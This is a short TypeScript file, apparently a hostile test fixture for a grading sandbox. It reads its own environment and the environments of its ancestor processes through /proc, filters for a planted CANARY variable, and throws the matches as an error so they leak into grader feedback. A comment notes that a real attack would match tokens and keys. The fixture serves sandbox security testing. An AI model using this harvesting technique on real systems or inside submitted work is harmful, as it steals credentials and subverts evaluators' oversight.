// HOSTILE: collects every environment variable that looks like a secret, its
// own and its ancestors' (/proc/<pid>/environ), and throws them as its error
// message, so they land in the feedback.
import { readFileSync } from 'node:fs';

/** The processes above this one, nearest first, each with its command line. */
function ancestors(): { pid: number; argv: string[] }[] {
  const found: { pid: number; argv: string[] }[] = [];
  try {
    for (let pid = process.ppid; pid > 1 && found.length < 30; ) {
      found.push({ pid, argv: readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0') });
      const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
      pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    }
  } catch {
    // /proc hides them, or one ended meanwhile
  }
  return found;
}

const environments = [
  Object.entries(process.env).map(([name, value]) => `${name}=${value}`),
  ...ancestors().map(({ pid }) => {
    try {
      return readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0');
    } catch {
      return [];
    }
  }),
];
// The grader's tests plant a canary; a real attack would match TOKEN, SECRET, KEY...
const secrets = environments.flat().filter((line) => /CANARY/.test(line));
throw new Error(`found: ${[...new Set(secrets)].join(' ') || 'no secrets'}`);
